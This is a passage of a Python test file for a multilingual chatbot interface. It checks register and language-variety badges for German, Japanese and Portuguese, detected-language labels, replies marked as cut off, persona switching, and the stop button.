    assert "read: ? ·" in unread["content"] and "Siezen" not in unread["content"]
    japanese = handlers.badge(Verdict(plan, plain, "off_target", 2, True, language="ja"), "de")
    assert japanese["metadata"]["title"] == "⚠ Falsche Sprache: 日本語 (Ziel: Deutsch)"
    assert "2" in japanese["content"]  # the retries are still listed


def test_a_misuse_is_explained_in_the_readers_language_when_it_is_the_locales() -> None:
    from chatbot.check import Verdict
    from chatbot.detect.register import analyze
    from chatbot.plan import Plan

    reading = analyze("お客様が参りますか。", "ja")
    verdict = Verdict(Plan("ja", "honorific", "test"), reading, "on_target", 0, False)
    japanese = handlers.badge(verdict, "ja")["content"]
    assert "「参り」は謙譲語なので、相手の動作には使えません" in japanese
    english = handlers.badge(verdict, "de")["content"]  # no German text for a Japanese misuse
    assert "参り is humble and cannot describe the listener's action" in english


def test_the_badge_names_the_variety_a_reply_is_planned_and_read_in() -> None:
    from chatbot.check import Verdict
    from chatbot.detect.register import analyze
    from chatbot.plan import Plan

    reading = analyze("Tô indo, você me espera?", "pt", variety="pt.brazil")
    plan = Plan("pt", "informal", "test", variety="pt.brazil")
    badge = handlers.badge(Verdict(plan, reading, "on_target", 0, False), "en")
    # Named in Brazil's Portuguese, and marked as such for the browser.
    assert badge["metadata"]["title"] == '✓ <span lang="pt-BR">Tratamento por você</span>'
    content = unmarked(badge["content"])
    assert "Tratamento por você · Português do Brasil" in content
    # Its evidence names the levels as Brazil does too (not "→ Tratamento por tu").
    assert "→ Tratamento por você" in content and "por tu" not in content
    europe = handlers.badge(
        Verdict(Plan("pt", "informal", "test"), analyze("Estás bem?", "pt"), "on_target", 0, False)
    )
    title = europe["metadata"]["title"]
    assert title == '✓ <span lang="pt-PT">Tratamento por tu</span>'
    assert "Brasil" not in europe["content"]


def test_the_badge_says_the_level_is_the_one_the_user_asked_for() -> None:
    from chatbot.check import Verdict
    from chatbot.detect.register import analyze
    from chatbot.plan import Plan

    plan = Plan("de", "informal", "the user asked for informal (duzen)", asked="duzen")
    reading = analyze("Klar, gern! Was kann ich für dich tun?", "de")
    for language, line in [("en", "As you asked: “duzen”"), ("de", "Wie gewünscht: „duzen“")]:
        badge = handlers.badge(Verdict(plan, reading, "on_target", 0, False), language)
        assert line in unmarked(badge["content"])
    plain = Verdict(Plan("de", "informal", "test"), reading, "on_target", 0, False)
    assert "asked" not in unmarked(handlers.badge(plain, "en")["content"])


def test_a_brazilian_browser_plans_a_message_that_shows_no_variety_in_brazils(
    backend: Backend,
) -> None:
    _, turn = ask(backend, "br", "Bom dia, procuro um livro.", "pt-bookshop", browser="pt-BR")
    assert turn.verdict is not None and turn.verdict.plan.variety == "pt.brazil"
    assert handlers.detected_line(turn).endswith("**Português (pt)** · **Português do Brasil**")
    _, turn = ask(backend, "pt", "Bom dia, procuro um livro.", "pt-bookshop", browser="pt-PT")
    assert turn.verdict is not None and turn.verdict.plan.variety == "pt.europe"
    _, turn = ask(backend, "xx", "Bom dia, procuro um livro.", "pt-bookshop", browser="fr-FR")
    assert turn.verdict is not None and turn.verdict.plan.variety is None


def test_the_detected_language_is_named_with_the_replys_when_they_differ() -> None:
    # A German message to an English-only persona: the reply is in English, and says so.
    line = handlers.detected_line(Turn(locale="en", detected="de"), "en")
    assert line == "Detected language: **Deutsch (de)** · the reply is in: **English (en)**"
    # Each language's own colon: full-width in Japanese, a non-breaking space before
    # it in French (the code wrote an ASCII ": " after every label).
    assert handlers.detected_line(Turn(locale="ja", detected="ja"), "ja") == (
        "検出した言語：**日本語 (ja)**"
    )
    assert "\u00a0: **" in handlers.detected_line(Turn(locale="fr", detected="de"), "fr")
    assert handlers.detected_line(Turn(locale="en", detected="da"), "en").startswith(
        "Detected language: **da** ·"  # no locale of ours: its code
    )
    assert handlers.detected_line(Turn(locale="en"), "en") == ""


def test_a_conversation_left_mid_reply_keeps_the_reply_marked_cut() -> None:
    waiting = {"role": "assistant", "content": "", "metadata": {"title": "…", "status": "pending"}}
    shown = [
        {"role": "user", "content": "Tell me a story."},
        {"role": "assistant", "content": "Once upon a"},
        waiting,
    ]
    marked = handlers.mark_cut(shown)
    assert marked == [shown[0], {"role": "assistant", "content": "Once upon a …"}]
    assert handlers.mark_cut(marked) == marked  # once
    assert shown[1]["content"] == "Once upon a"  # a copy
    # A reply that had not begun (a place in line): the question stays unanswered.
    queued = [shown[0], waiting, {"role": "assistant", "content": "…"}]
    assert handlers.mark_cut(queued) == [shown[0]]
    # A finished reply ends with its badge and is left as it is.
    done = [
        shown[0],
        {"role": "assistant", "content": "Once upon a time."},
        {"role": "assistant", "content": "Target: …", "metadata": {"title": "✓ neutral"}},
    ]
    assert handlers.mark_cut(done) == done


def test_switching_persona_and_back_brings_the_conversation_its_language_and_level(
    backend: Backend,
) -> None:
    from types import SimpleNamespace

    from chatbot.ui.app import create_app

    demo = create_app(backend)
    fns = {f.fn.__name__: f.fn for f in demo.fns.values() if f.fn}
    switch, restore = fns["_persona"], fns["_restore"]
    request = SimpleNamespace(session_hash="switch-tab", headers={"accept-language": "en"})
    shop, concierge = "ja-stationery-shop", "ja-hotel-concierge"
    views, _ = ask(backend, "switch-tab", "おすすめは？", persona=shop)
    said = handlers.normalize(views[-1])  # answered: the reply and its badge
    state = {"messages": said, "persona": shop, "locale": "ja", "level": "honorific", "others": {}}
    away = switch(concierge, "", said, state, request)
    assert away[1]["value"] == AUTO  # the concierge's own conversation: a fresh one
    kept = away[-1]["others"][shop]
    # Kept without the texts' language marks, their languages beside them.
    assert kept["messages"] == handlers.to_saved(said) != said
    assert all('<div lang="' not in m["content"] for m in kept["messages"])
    assert (kept["locale"], kept["level"]) == ("ja", "honorific")
    # Gradio fires the choice twice: the second, with the state the first left, changes nothing.
    assert switch(concierge, "", away[0], away[-1], request) == (gr.update(),) * 6
    back = switch(shop, "", away[0], {**away[-1], "locale": AUTO}, request)
    assert back[0] == said and back[1]["value"] == "ja" and back[2]["value"] == "honorific"
    # A state saved before the pickers were kept with a conversation still loads:
    # switched to, and restored in place of a persona no longer served.
    old = {**state, "persona": concierge, "others": {shop: said}}
    assert switch(shop, "", [], old, request)[0] == said
    gone = {"messages": [], "persona": "gone-persona", "others": {"en-neutral-assistant": said}}
    assert restore(gone, request)[0] == said


def test_kept_conversations_are_read_with_their_pickers_and_odd_ones_dropped(
    backend: Backend,
) -> None:
    from chatbot.ui.app import _others, _pickers

    said = [{"role": "user", "content": "こんにちは"}]
    state = {
        "others": {
            "ja-stationery-shop": {"messages": said, "locale": "ja", "level": "honorific"},
            "ja-hotel-concierge": said,  # saved before the pickers were kept with it
            "ja-casual-friend": {"messages": "not a list"},
            "gone-persona": {"messages": said},
        }
    }
    others = _others(state, backend)
    assert list(others) == ["ja-stationery-shop", "ja-hotel-concierge"]
    shop = others["ja-stationery-shop"]
    assert _pickers(backend, "ja-stationery-shop", shop["locale"], shop["level"])[::2] == (
        "ja",
        "honorific",
    )
    # What the persona no longer offers falls back to Auto and its first level.
    loc, levels, lvl = _pickers(backend, "ja-hotel-concierge", "de", "casual")
    assert (loc, lvl) == (AUTO, levels[0][1])


def test_stop_is_enabled_while_a_reply_runs_and_not_after(backend: Backend) -> None:
    from types import SimpleNamespace

    from chatbot.ui.app import create_app

    demo = create_app(backend)
    reply = {f.fn.__name__: f.fn for f in demo.fns.values() if f.fn}["reply"]
    request = SimpleNamespace(session_hash="stop-tab", headers={"accept-language": "en"})
    persona = "en-neutral-assistant"
    messages = [*handlers.greeting(backend, persona), {"role": "user", "content": "Hello!"}]
    stops = [out[3] for out in reply(messages, persona, AUTO, AUTO, False, "", request)]
    assert stops[0] == gr.update(interactive=True)  # as soon as the reply shows
    assert stops[-1] == gr.update(interactive=False)  # and off once it has ended
    assert not handlers.generating(backend, "stop-tab")
    # A reply that ends while the one replacing it runs (Regenerate) leaves Stop to it:
    # here one with nothing to answer, while the tab's turn is held.
    greeting = handlers.greeting(backend, persona)
    with backend.sessions.get("stop-tab").turn_lock:
        ended = [out[3] for out in reply(greeting, persona, AUTO, AUTO, False, "", request)]
    assert ended == [gr.update()]


def test_a_persona_without_a_greeting_opens_an_empty_chat_that_answers(
    backend: Backend, tmp_path: Path
) -> None:
    from tests.persona.test_persona_files import GOOD, write

    text = GOOD.format(id="quiet-shop").replace(
        "    greeting: Guten Tag! Wie kann ich Ihnen helfen?\n", ""
    )
    write(tmp_path, "quiet-shop", text)
    registry = PersonaRegistry(tmp_path, entry_points=False)
    local = Backend(engine=backend.engine, registry=registry, settings=backend.settings)
    assert handlers.greeting(local, "quiet-shop", "de") == []
    asked = [{"role": "user", "content": "Guten Tag, haben Sie Brot?"}]
    views = list(handlers.respond(local, "s-quiet", asked, "quiet-shop", "de"))
    reply = views[-1][-1]
    assert reply["role"] == "assistant" and handlers.plain(reply["content"]).strip()
